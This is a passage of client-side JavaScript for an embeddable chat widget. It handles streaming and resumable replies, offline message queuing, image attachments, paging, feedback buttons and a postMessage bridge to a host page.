      // Never drop a typed message: this one stays in the composer until some are sent.
      showBanner(S.pendingOffline, { tone: "warn", kind: "connection" });
      return;
    }
    hideBanner("request");
    const entry = addPending(buildPrompt(text, attachment));
    input.value = "";
    saveDraft();
    autoGrow();
    setAttachment(null);
    list.appendChild(pendingElement(entry));
    updateEmptyState();
    scrollToBottom(true);
    if (!navigator.onLine) showBanner(S.pendingOffline, { tone: "warn", kind: "connection" });
    flushPending();
  }

  /* A reply view that fills in as events arrive (a new prompt's, or a resumed one). */
  function streamingView() {
    const view = assistantView({ role: "assistant", content: "", createdAt: Date.now() / 1000 });
    view.item.classList.add("cw-msg--new");
    view.typing = typingIndicator();
    view.bubble.appendChild(view.typing);
    view.meta.hidden = true;
    return view;
  }

  function beginTurn(view) {
    const controller = new AbortController();
    state.turn = { controller, view, stopping: false };
    app.dataset.turn = "streaming";
    updateComposer();
    updateEmptyState();
    return controller;
  }

  /* The reply stopped arriving: a cut (unfinished or stopped) reply closes its half-written
   * Markdown (`**bold` would otherwise show its asterisks). */
  function endTurn(view, finished) {
    if (view.frame) cancelAnimationFrame(view.frame);
    view.frame = 0;
    view.typing?.remove();
    const cut = !finished || state.turn?.stopping;
    if (view.content) renderMarkdown(view.bubble, cut ? closeMarkdown(view.content) : view.content);
    view.reasoningBox.classList.remove("is-live");
    view.meta.hidden = false;
    state.turn = null;
    updateComposer();
    updateEmptyState();
  }

  /* After a reply: the stored conversation is the truth (ids, final text, status, usage).
   * `announce`: the reply finished normally, say so once (live region, widget). */
  async function resync(announce = false) {
    try {
      await loadConversation();
      scrollToBottom(true);
      if (announce) replyFinished();
      await refreshSession(); // usage (debug) and whether a limit now blocks the chat
    } catch (error) {
      if (error instanceof HttpError) handleHttpError(error);
      else connectionLost();
    } finally {
      if (app.dataset.turn === "streaming") app.dataset.turn = "idle";
    }
  }

  /* Send one pending message. "sent": the server has it (and the reply was read or resumed),
   * "offline": no answer at all (it stays pending), "refused": the server said no. */
  async function deliver(entry) {
    let userItem = pendingItem(entry.key);
    if (!userItem) {
      userItem = pendingElement(entry);
      list.appendChild(userItem);
    }
    userItem.classList.add("is-sending");
    const view = streamingView();
    list.appendChild(view.item);
    const controller = beginTurn(view);
    scrollToBottom(true);

    let response = null;
    let finished = false; // the server ended the turn (done event or a whole JSON answer)
    let refused = false; // the server refused the prompt before the reply started
    let lost = false; // the connection broke mid-reply
    let offline = false; // no answer at all: the message may not have reached the server
    let failedEntry = null; // stored, but the model failed before its first token
    try {
      response = await api("prompt", {
        method: "POST",
        headers: {
          "Content-Type": "application/json",
          Accept: "text/event-stream",
          "Idempotency-Key": entry.key,
        },
        body: JSON.stringify({ prompt: entry.prompt }),
        signal: controller.signal,
      });
      if (!response.ok) {
        refused = true;
        const body = await envelope(response);
        forgetPending(entry.key);
        userItem.remove();
        view.item.remove();
        // A model failure (502/504) comes after the message was stored with an error marker:
        // show the stored conversation and retry with the same Idempotency-Key, so the
        // message is answered again instead of being stored twice.
        const stored = response.status === 502 || response.status === 504;
        if (stored) failedEntry = entry;
        else restoreToComposer(entry);
        handleHttpError(new HttpError(response, body), stored ? entry : null);
      } else {
        acknowledge(entry, userItem);
        if (!(response.headers.get("Content-Type") || "").includes("text/event-stream")) {
          // A server that answered with JSON: show the whole completion at once.
          const body = await envelope(response);
          view.content = body.data?.completionText || "";
          finished = true;
        } else {
          finished = await readReply(response.body, view);
          if (!finished && !view.failed) lost = true;
        }
      }
    } catch (error) {
      if (!(error.name === "AbortError" && state.expired)) {
        if (response) lost = true;
        else offline = true;
      }
    } finally {
      endTurn(view, finished);
    }

    if (offline) {
      view.item.remove();
      userItem.classList.remove("is-sending");
      app.dataset.turn = "recovering";
      connectionLost();
      retryPendingLater();
      return "offline";
    }
    state.retryDelay = 0;
    if (lost) {
      // The message is stored; the reply goes on without us: attach to it again.
      finished = (await followReply(view)) === "done";
      lost = !finished;
    }
    if (finished || lost || (view.failed && !refused) || failedEntry) {
      await resync(finished && !view.failed);
    }
    else if (app.dataset.turn === "streaming") app.dataset.turn = "idle";
    return refused ? "refused" : "sent";
  }

  async function stop() {
    const turn = state.turn;
    if (!turn || turn.stopping) return;
    turn.stopping = true;
    // The stop button is about to disappear: keep keyboard focus where typing goes on.
    input.focus({ preventScroll: true });
    updateComposer();
    try {
      const response = await api("stop", { method: "POST" });
      if (!response.ok && response.status !== 409) throw new Error(`stop ${response.status}`);
    } catch {
      turn.controller.abort(); // the stream ends here; recovery re-reads what was kept
    }
  }

  // ------------------------------------------------------------------ clearing

  function askClear() {
    if (state.turn || clearButton.disabled && !state.blocked) return;
    if (typeof confirmDialog.showModal === "function") {
      confirmDialog.returnValue = "";
      confirmDialog.showModal();
    } else if (window.confirm(S.clearTitle)) {
      clearConversation();
    }
  }

  confirmDialog.addEventListener("close", () => {
    if (confirmDialog.returnValue === "confirm") clearConversation();
  });

  async function clearConversation() {
    try {
      await apiJson("messages", { method: "DELETE" });
      renderConversation([]);
      setBlocked(false);
      hideBanner("request");
      showToast(S.cleared);
      refreshSession().catch(() => {});
      input.focus();
    } catch (error) {
      if (error instanceof HttpError) handleHttpError(error);
      else connectionLost();
    }
  }

  // ------------------------------------------------------------------ attachments

  const attachBox = $("cw-attachment");
  const attachPreview = $("cw-attachment-preview");
  const fileInput = $("cw-file");
  const imagesAllowed = (cfg.inputModes || []).includes("Image");

  function setAttachment(attachment) {
    state.attachment = attachment;
    attachBox.hidden = !attachment;
    attachPreview.src = attachment ? attachment.dataUrl : "";
    updateComposer();
  }

  function readImage(file) {
    if (!file) return;
    if (!/^image\//.test(file.type)) {
      showBanner(S.notAnImage, { kind: "request" });
      return;
    }
    if (file.size * 1.37 > cfg.maxImageBytes) {
      showBanner(t("imageTooLarge", { size: formatBytes(cfg.maxImageBytes / 1.37) }), { kind: "request" });
      return;
    }
    const reader = new FileReader();
    reader.onload = () => {
      hideBanner("request");
      setAttachment({ dataUrl: String(reader.result), name: file.name });
    };
    reader.readAsDataURL(file);
  }

  if (imagesAllowed && fileInput) {
    $("cw-attach").addEventListener("click", () => fileInput.click());
    fileInput.addEventListener("change", () => {
      readImage(fileInput.files[0]);
      fileInput.value = "";
    });
    input.addEventListener("paste", (event) => {
      const file = [...(event.clipboardData?.files || [])].find((f) => f.type.startsWith("image/"));
      if (file) {
        event.preventDefault();
        readImage(file);
      }
    });
  }
  $("cw-attachment-remove").addEventListener("click", () => setAttachment(null));

  // ------------------------------------------------------------------ composer

  function autoGrow() {
    input.style.height = "auto";
    input.style.height = `${Math.min(input.scrollHeight, window.innerHeight * 0.4)}px`;
  }

  function updateComposer() {
    const streaming = !!state.turn;
    // Send and Stop swap places: focus on the one being hidden goes to the input, not <body>.
    const focused = document.activeElement;
    if ((focused === sendButton && streaming) || (focused === stopButton && !streaming)) {
      input.focus({ preventScroll: true });
    }
    sendButton.hidden = streaming;
    stopButton.hidden = !streaming;
    stopButton.disabled = !!state.turn?.stopping;
    sendButton.disabled = state.blocked || (!input.value.trim() && !state.attachment);
    clearButton.disabled = streaming || (list.children.length === 0 && !state.blocked);
  }

  input.addEventListener("input", () => {
    autoGrow();
    updateComposer();
    saveDraft();
  });
  input.addEventListener("keydown", (event) => {
    if (event.key === "Enter" && !event.shiftKey && !event.isComposing && event.keyCode !== 229) {
      event.preventDefault();
      send(input.value);
    }
  });
  $("cw-composer").addEventListener("submit", (event) => {
    event.preventDefault();
    send(input.value);
  });
  stopButton.addEventListener("click", stop);
  clearButton.addEventListener("click", askClear);
  document.addEventListener("keydown", onEscape);
  for (const button of document.querySelectorAll(".cw-suggestion")) {
    button.addEventListener("click", () => {
      const suggestion = cfg.suggestionButtons[Number(button.dataset.index)];
      if (suggestion) send(suggestion.prompt);
    });
  }

  // ------------------------------------------------------------------ pending messages and drafts

  const MAX_PENDING = 20;
  const storeKey = (kind) => `chinwag:${kind}:${cfg.accessKey}`;

  function readStore(kind, fallback) {
    try {
      const raw = localStorage.getItem(storeKey(kind));
      return raw === null ? fallback : JSON.parse(raw);
    } catch {
      return fallback;
    }
  }

  /* Best effort: a full or disabled localStorage still leaves the in-memory copy working. */
  function writeStore(kind, value) {
    try {
      if (value === null || (Array.isArray(value) && !value.length)) {
        localStorage.removeItem(storeKey(kind));
      } else {
        localStorage.setItem(storeKey(kind), JSON.stringify(value));
      }
    } catch {
      /* quota exceeded or storage disabled */
    }
  }

  function newKey() {
    if (window.crypto?.randomUUID) return window.crypto.randomUUID();
    const bytes = window.crypto.getRandomValues(new Uint8Array(16));
    return Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("");
  }

  function loadPending() {
    const stored = readStore("pending", []);
    state.pending = Array.isArray(stored)
      ? stored.filter((e) => e && typeof e.key === "string" && e.prompt).slice(-MAX_PENDING)
      : [];
  }

  function addPending(prompt) {
    const entry = { key: newKey(), prompt, createdAt: Date.now() / 1000 };
    state.pending = [...state.pending, entry];
    writeStore("pending", state.pending);
    return entry;
  }

  function forgetPending(key) {
    state.pending = state.pending.filter((e) => e.key !== key);
    writeStore("pending", state.pending);
  }

  function pendingItem(key) {
    return [...list.querySelectorAll(".cw-msg--pending")].find((li) => li.dataset.pendingKey === key);
  }

  function pendingElement(entry) {
    const prompt = entry.prompt;
    const item = userMessageElement({
      role: "user",
      content: typeof prompt === "string" ? prompt : prompt.content,
      createdAt: entry.createdAt,
    });
    item.classList.add("cw-msg--pending");
    item.dataset.pendingKey = entry.key;
    const note = el("span", "cw-pending-note", S.pending);
    item.querySelector(".cw-meta")?.appendChild(note);
    return item;
  }

  /* The server has the message: it is no longer ours to resend. */
  function acknowledge(entry, sent) {
    forgetPending(entry.key);
    const item = pendingItem(entry.key) || sent; // a re-render may have replaced it
    item.classList.remove("cw-msg--pending", "is-sending");
    item.querySelector(".cw-pending-note")?.remove();
  }

  /* After a re-render from the server: drop what it already stored, show the rest as pending. */
  function renderPending(messages) {
    const stored = new Set(messages.map((m) => m.idempotencyKey).filter(Boolean));
    if (state.pending.some((e) => stored.has(e.key))) {
      state.pending = state.pending.filter((e) => !stored.has(e.key));
      writeStore("pending", state.pending);
    }
    for (const entry of state.pending) {
      if (state.turn && pendingItem(entry.key)) continue;
      list.appendChild(pendingElement(entry));
    }
  }

  function restoreToComposer(entry) {
    const prompt = entry.prompt;
    const { text, images } = contentParts(typeof prompt === "string" ? prompt : prompt.content);
    if (!input.value) input.value = text;
    if (images[0] && !state.attachment) setAttachment({ dataUrl: images[0], name: "" });
    saveDraft();
    autoGrow();
    updateEmptyState();
  }

  /* Send the pending messages in order, one turn at a time, while the connection holds. */
  async function flushPending() {
    if (state.flushing) return;
    state.flushing = true;
    try {
      while (!state.turn && !state.expired && !state.blocked && navigator.onLine) {
        const entry = state.pending[0];
        if (!entry) break;
        const outcome = await deliver(entry);
        if (outcome !== "sent") break;
      }
    } finally {
      state.flushing = false;
    }
  }

  /* No answer at all although the browser says it is online (flaky network, server away):
   * try again later, backing off; the `online` event and a reload also flush. */
  function retryPendingLater() {
    clearTimeout(state.retryTimer);
    state.retryDelay = Math.min(Math.max(1000, (state.retryDelay || 0) * 2), 15000);
    state.retryTimer = setTimeout(() => flushPending(), state.retryDelay);
  }

  function saveDraft() {
    writeStore("draft", input.value ? input.value : null);
  }

  function restoreDraft() {
    const draft = readStore("draft", null);
    if (typeof draft === "string" && draft && !input.value) {
      input.value = draft;
      autoGrow();
      updateComposer();
    }
  }

  // ------------------------------------------------------------------ resumable replies

  /* Remember the last event seen; a new reply id means another reply: start its view afresh. */
  function noteEventId(view, id) {
    const replyId = id.slice(0, id.lastIndexOf("."));
    if (view.replyId && view.replyId !== replyId) {
      view.content = "";
      setReasoning(view, "", false);
    }
    view.replyId = replyId;
    view.lastEventId = id;
  }

  /* Attach `view` to the reply being written (GET .../stream), after its last event id when
   * it has one, reconnecting until the reply ends. "done": read to the end; "none": there was
   * nothing (more) to read; "aborted": stopped by the page. */
  async function followReply(view) {
    const controller = beginTurn(view);
    view.meta.hidden = true;
    let delay = 500;
    let outcome = "none";
    try {
      while (!state.expired) {
        try {
          const headers = { Accept: "text/event-stream" };
          if (view.lastEventId) headers["Last-Event-ID"] = view.lastEventId;
          const response = await api("stream", { headers, signal: controller.signal });
          if (response.status === 204 || !response.ok) {
            if (response.status === 401) showExpired(cfg.expiresAt);
            break;
          }
          hideBanner("connection");
          if ((await readReply(response.body, view)) || view.failed) {
            outcome = "done";
            break;
          }
        } catch (error) {
          if (error.name === "AbortError") {
            outcome = "aborted";
            break;
          }
        }
        showBanner(S.connectionLost, { tone: "warn", kind: "connection" });
        await new Promise((resolve) => setTimeout(resolve, delay));
        delay = Math.min(delay * 1.6, 5000);
      }
    } finally {
      endTurn(view, outcome === "done");
    }
    return outcome;
  }

  /* On load: a reply still being written (the page was reloaded mid-reply) continues here. */
  async function resumeOnLoad() {
    if (state.turn || state.expired) return;
    const view = streamingView();
    list.appendChild(view.item);
    const outcome = await followReply(view);
    if (outcome === "none" && !view.content && !view.reasoning) {
      view.item.remove();
      updateEmptyState();
      // It may have ended between loading the conversation and asking: show the stored reply.
      if (state.messages.at(-1)?.role === "user") await resync();
      else if (app.dataset.turn === "streaming") app.dataset.turn = "idle";
      return;
    }
    await resync(outcome === "done" && !view.failed);
  }

  // ------------------------------------------------------------------ paging

  const PAGE_SIZE = 50;
  const MAX_PAGE = 500;
  const olderStatus = el("div", "cw-older", S.loadingOlder);
  olderStatus.setAttribute("role", "status");
  olderStatus.hidden = true;
  list.before(olderStatus);

  async function fetchMessages(query) {
    const params = new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]));
    const data = await apiJson(`messages?${params}`);
    return Array.isArray(data) ? data : (data && data.messages) || [];
  }

  /* Prepend the page before the oldest shown message, keeping what the user looks at in place. */
  async function loadOlder() {
    const paging = state.paging;
    const oldest = state.messages[0]?.seq;
    if (!paging.hasOlder || paging.loading || !Number.isInteger(oldest)) return;
    paging.loading = true;
    olderStatus.hidden = false;
    try {
      const page = (await fetchMessages({ limit: PAGE_SIZE, before: oldest })).filter(
        (m) => Number.isInteger(m.seq) && m.seq < oldest,
      );
      paging.hasOlder = page.length === PAGE_SIZE;
      if (page.length) {
        const height = scroller.scrollHeight;
        const top = scroller.scrollTop;
        const fragment = document.createDocumentFragment();
        for (const message of page) fragment.appendChild(messageElement(message));
        list.insertBefore(fragment, list.firstChild);
        state.messages = page.concat(state.messages);
        scroller.scrollTop = top + (scroller.scrollHeight - height);
      }
    } catch {
      /* the next scroll tries again */
    } finally {
      paging.loading = false;
      olderStatus.hidden = true;
    }
    fillViewport();
  }

  /* Too few messages to scroll: load older ones until the view is full or none are left. */
  function fillViewport() {
    if (state.paging.hasOlder && scroller.scrollHeight <= scroller.clientHeight + 200) loadOlder();
  }

  scroller.addEventListener(
    "scroll",
    () => {
      if (scroller.scrollTop < 300) loadOlder();
    },
    { passive: true },
  );

  // ------------------------------------------------------------------ feedback

  const THUMB =
    '<svg viewBox="0 0 24 24" width="16" height="16" fill="none" stroke="currentColor" stroke-width="1.8" stroke-linecap="round" stroke-linejoin="round" aria-hidden="true"><path d="M7 10v11H4a1 1 0 0 1-1-1v-9a1 1 0 0 1 1-1z"/><path d="M7 10l4-8a3 3 0 0 1 3 3v4h5.5a2 2 0 0 1 2 2.3l-1.3 8A2 2 0 0 1 18.2 21H7"/></svg>';
  let feedbackForms = 0;

  /* Thumbs up/down (aria-pressed) on a stored reply, then an optional comment. */
  function feedbackBar(message) {
    const bar = el("div", "cw-feedback");
    bar.setAttribute("role", "group");
    bar.setAttribute("aria-label", S.feedbackGroup);
    const current = { rating: message.feedback?.rating ?? null, comment: message.feedback?.comment ?? "" };
    const buttons = {};
    for (const rating of ["up", "down"]) {
      const button = el("button", `cw-feedback-button cw-feedback-${rating}`);
      button.type = "button";
      button.innerHTML = THUMB;
      button.setAttribute("aria-label", rating === "up" ? S.feedbackUp : S.feedbackDown);
      button.title = button.getAttribute("aria-label");
      button.addEventListener("click", () => rate(current.rating === rating ? null : rating));
      buttons[rating] = button;
      bar.appendChild(button);
    }

    const form = el("form", "cw-feedback-form");
    form.hidden = true;
    const fieldId = `cw-feedback-comment-${++feedbackForms}`;
    const label = el("label", "cw-feedback-label", S.feedbackComment);
    label.htmlFor = fieldId;
    const comment = el("textarea", "cw-feedback-text");
    comment.id = fieldId;
    comment.rows = 2;
    comment.maxLength = 1000;
    comment.value = current.comment;
    const submit = el("button", "cw-button cw-button--ghost cw-feedback-send", S.feedbackSend);
    submit.type = "submit";
    form.append(label, comment, submit);
    form.addEventListener("submit", async (event) => {
      event.preventDefault();
      if (await save(current.rating, comment.value)) {
        form.hidden = true;
        showToast(S.feedbackThanks);
      }
    });
    bar.appendChild(form);

    function show() {
      buttons.up.setAttribute("aria-pressed", String(current.rating === "up"));
      buttons.down.setAttribute("aria-pressed", String(current.rating === "down"));
    }

    async function save(rating, text) {
      try {
        const body = { rating };
        if (rating && text && text.trim()) body.comment = text.trim().slice(0, 1000);
        await apiJson(`messages/${encodeURIComponent(message.id)}/feedback`, {
          method: "POST",
          headers: { "Content-Type": "application/json" },
          body: JSON.stringify(body),
        });
        current.rating = rating;
        current.comment = body.comment || "";
        message.feedback = rating ? { rating, comment: current.comment || null } : null;
        show();
        return true;
      } catch (error) {
        if (error instanceof HttpError && error.status === 401) showExpired(cfg.expiresAt);
        else showToast(S.feedbackFailed);
        return false;
      }
    }

    async function rate(rating) {
      if (await save(rating, rating ? current.comment : "")) form.hidden = !rating;
    }

    show();
    return bar;
  }

  /* Escape stops a reply being written; otherwise, in the widget, it closes the panel. An
   * open dialog handles its own Escape. */
  function onEscape(event) {
    if (event.key !== "Escape" || event.defaultPrevented || confirmDialog.open) return;
    if (state.turn) {
      event.preventDefault();
      stop();
    } else if (cfg.embed) {
      event.preventDefault();
      notifyParent("close");
    }
  }

  // ------------------------------------------------------------------ embedded in /widget.js

  /* The host page's widget says hello (postMessage) once the panel's frame has loaded; its
   * origin, checked by the browser as the frame's real parent, is where messages go from then
   * on. The page sends: ready {primaryColor, title}, reply {id, role, status, text}, close,
   * state {canClear}. It takes: focus, clear. */
  const parentLink = { origin: null };

  function notifyParent(type, detail) {
    if (!cfg.embed || !parentLink.origin) return;
    window.parent.postMessage({ chinwag: 1, type, ...(detail || {}) }, parentLink.origin);
  }

  function embedBridge() {
    if (!cfg.embed || window.parent === window) return;
    window.addEventListener("message", (event) => {
      const data = event.data;
      if (event.source !== window.parent || !data || data.chinwag !== 1) return;
      if (data.type === "hello") {
        parentLink.origin = event.origin;
        notifyParent("ready", { primaryColor: cfg.primaryColor, title: cfg.pageTitle });
        notifyParent("state", { canClear: !clearButton.disabled });
      } else if (event.origin !== parentLink.origin) {
        return;
      } else if (data.type === "focus") {
        input.focus({ preventScroll: true });
      } else if (data.type === "clear") {
        askClear();
      }
    });
    new MutationObserver(() => notifyParent("state", { canClear: !clearButton.disabled })).observe(
      clearButton,
      { attributes: true, attributeFilter: ["disabled"] },
    );
  }

  // ------------------------------------------------------------------ start

  function runCustomScripts() {
    if (!cfg.customScripts) return;
    const script = document.createElement("script");
    script.nonce = NONCE;
    script.textContent = cfg.customScripts;
    document.body.appendChild(script);
  }

  /* Another script (channels.js) saw the conversation change elsewhere (a linked Telegram or
   * WhatsApp chat): show the server's copy, unless a reply is streaming here right now. */
  window.addEventListener("chinwag:resync", () => {
    if (!state.turn && !state.expired) loadConversation().catch(() => {});
  });

  /* A small surface for customScripts. */
  window.chinwag = Object.freeze({
    language: locale,
    send: (text) => send(text),
    setDraft: (text) => {
      input.value = String(text ?? "");
      autoGrow();
      updateComposer();
      saveDraft();
    },
    clear: askClear,
  });

  /* talk.js is `async`, so it can run before talk.css has loaded: the body's background
   * would then read as transparent (black) and the derived shades would be wrong. */
  function stylesReady() {
    const sheet = document.querySelector('link[rel="stylesheet"]');
    if (!sheet || sheet.sheet) return Promise.resolve();
    return new Promise((resolve) => {
      sheet.addEventListener("load", resolve, { once: true });
      sheet.addEventListener("error", resolve, { once: true });
    });
  }

  async function start() {
    stylesReady().then(applyPrimaryContrast);
    loadPending();
    restoreDraft();
    window.matchMedia("(prefers-color-scheme: dark)").addEventListener("change", applyPrimaryContrast);
    embedBridge();
    updateComposer();
    try {
      await Promise.all([loadConversation(), refreshSession()]);
      app.dataset.state = "ready";
      scrollToBottom(true);
      // In a frame the host page owns the focus; the widget asks for it when it opens.
      if (window.parent === window) input.focus({ preventScroll: true });
      fillViewport();
      resumeOnLoad().then(() => flushPending());
    } catch (error) {
      app.dataset.state = "ready";
      updateEmptyState();
      if (error instanceof HttpError) {
        if (error.status === 401) showExpired(cfg.expiresAt);
        else showBanner(withRequestId(S.loadFailed, error.requestId), { tone: "error", kind: "load", action: { label: S.retry, run: () => location.reload() } });
      } else {
        connectionLost();
      }
    }
    runCustomScripts();
  }

  start();
})();
